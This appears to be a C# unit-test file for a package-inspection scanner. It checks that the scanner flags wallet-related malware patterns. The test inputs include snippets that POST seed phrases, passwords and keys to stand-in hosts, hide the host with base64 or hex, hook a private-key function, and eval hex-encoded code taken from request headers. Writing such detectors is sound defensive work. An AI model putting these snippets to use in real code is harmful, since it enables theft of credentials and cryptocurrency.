using PackageWall.Inspection.Facts;

namespace PackageWall.Inspection.Tests.Languages.Evaluation;

/// <summary>What callers hand over in trust, and where it goes.</summary>
public sealed class SecretTests
{
    private const string Secret = "read.parameter.secret";

    [Fact]
    public void A_seed_is_a_secret_where_wallets_are_handled()
    {
        const string Send = "function check(seed) { fetch('https://a.invalid', { method: 'POST', body: seed }); }\n";
        Read.Script("class Wallet { constructor(privateKey) { this.k = privateKey; } }\n" + Send).One("network.send").From.ShouldContain(Secret);
        Read.Script("const dice = n => n + 1;\n" + Send).One("network.send").From.ShouldNotContain(Secret);
    }

    [Fact]
    public void What_decrypts_is_given_a_secret_and_what_logs_in_is_not()
    {
        Read.Python("import requests\ndef decrypt(password):\n    requests.post('https://a.invalid', json={'p': password})\n").One("network.send").From.ShouldContain(Secret);
        Read.Python("import requests\ndef login(password):\n    requests.post('https://a.invalid', json={'p': password})\n").One("network.send").From.ShouldNotContain(Secret);
    }

    [Fact]
    public void What_callers_may_leave_out_decides_nothing()
    {
        var facts = Read.Python("""
            import requests

            def connect(server, private_key_file=None):
                key = open(private_key_file).read() if private_key_file else ""
                requests.post("https://a.invalid", json={"key": key})
            """);
        facts.One("network.send").From.ShouldContain(Secret);
    }

    [Theory]
    [InlineData("fetch(atob('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvdjE='), { method: 'POST', body: mnemonic });")]
    [InlineData("require('https').request({ hostname: Buffer.from('636f6c6c6563742e696e76616c6964', 'hex').toString(), method: 'POST' }).end(mnemonic);")]
    public void An_address_that_is_decoded_is_told(string send) =>
        Read.Script($"exports.open = mnemonic => {{ {send} }};").Has("network.disguised").ShouldBeTrue();

    [Fact]
    public void An_address_that_is_put_together_is_not_disguised() =>
        Read.Script("exports.open = (mnemonic, at) => fetch('https://' + 'a.invalid/' + encodeURIComponent(at), { method: 'POST', body: mnemonic });").Has("network.disguised").ShouldBeFalse();

    [Fact]
    public void What_is_decoded_and_no_address_is_no_disguise() =>
        Read.Script("exports.open = mnemonic => fetch(atob('dGV4dA=='), { method: 'POST', body: mnemonic });").Has("network.disguised").ShouldBeFalse();

    [Fact]
    public void A_payment_to_a_constant_account_is_told_and_a_call_of_a_contract_is_not()
    {
        const string Account = "'0x00000000000000000000000000000000000000aa'";
        Read.Script($"window.ethereum.request({{ method: 'eth_sendTransaction', params: [{{ from: a, to: {Account}, value: '0x0' }}] }});").One("wallet.payment").Value.ShouldEndWith("aa");
        Read.Script($"window.ethereum.request({{ method: 'eth_sendTransaction', params: [{{ from: a, to: {Account}, data: d }}] }});").Has("wallet.payment").ShouldBeFalse();
    }

    [Fact]
    public void One_account_is_one_account_however_often_it_is_read() =>
        Read.Script("const thanks = '0x00000000000000000000000000000000000000aa'; fetch('https://a.invalid/' + thanks); function f(x) { return g(x); } function g(x) { return f(thanks); } g(f(1));")
            .Has("wallet.addresses").ShouldBeFalse();

    [Theory]
    [InlineData("/^0x[0-9a-f]{40}$/.test(x); /^0x[0-9A-F]{40}$/.test(x)", "", false)]
    [InlineData("/^0x[0-9a-f]{40}$/.test(x); /^(bc1)[a-z0-9]{25,39}$/.test(x)", "", true)]
    [InlineData("/0x[0-9a-f]{40}/.test(x)", "", true)]
    [InlineData("/^0x[0-9a-f]{40}$/.test(x)", "y = '0x00000000000000000000000000000000000000aa'", true)]
    [InlineData("/^0x[0-9a-f]{40}$/.test(x); /* FAR */", "y = '0x00000000000000000000000000000000000000aa'", false)]
    public void Checks_of_addresses_are_a_list_with_another_coin_or_an_address_near_them(string check, string address, bool isList) =>
        Read.Script($"{check.Replace("FAR", new string('-', 30_000), StringComparison.Ordinal)}; {address}").Has("wallet.addresses").ShouldBe(isList);

    [Theory]
    [InlineData("'ht' + 'tps://collect.invalid/'", true)]
    [InlineData("'/v1' + '/collect'", false)]
    public void An_address_in_pieces_is_a_host(string address, bool isHost) =>
        Read.Script($"exports.open = tool => {{ tool({address}); require('child_process'); }};").Has("network.host").ShouldBe(isHost);

    [Fact]
    public void Functions_for_keys_that_are_replaced_are_told() =>
        Read.Python("import requests\nfrom eth_account import Account\nold = Account.from_key\ndef mine(key):\n    requests.post('https://a.invalid', key)\n    return old(key)\nAccount.from_key = mine\n").One("hook.wallet").Value.ShouldBe("eth_account.Account.from_key");

    [Fact]
    public void Code_that_comes_encoded_with_a_request_is_told()
    {
        Read.Script("module.exports = (req, res) => { eval(Buffer.from(req.headers.x, 'hex').toString()); };").Has("execute.sent-code").ShouldBeTrue();
        Read.Script("const kept = {}; module.exports = (req, res) => { req.headers.x.replace(/a(.)b/g, (all, data) => { if (data.length > 9) eval(kept.code.toString()); else kept.code = Buffer.from(data, 'hex'); }); };").Has("execute.sent-code").ShouldBeTrue();
        Read.Script("module.exports = (req, res) => { eval(req.body); };").Has("execute.sent-code").ShouldBeFalse();
    }
}
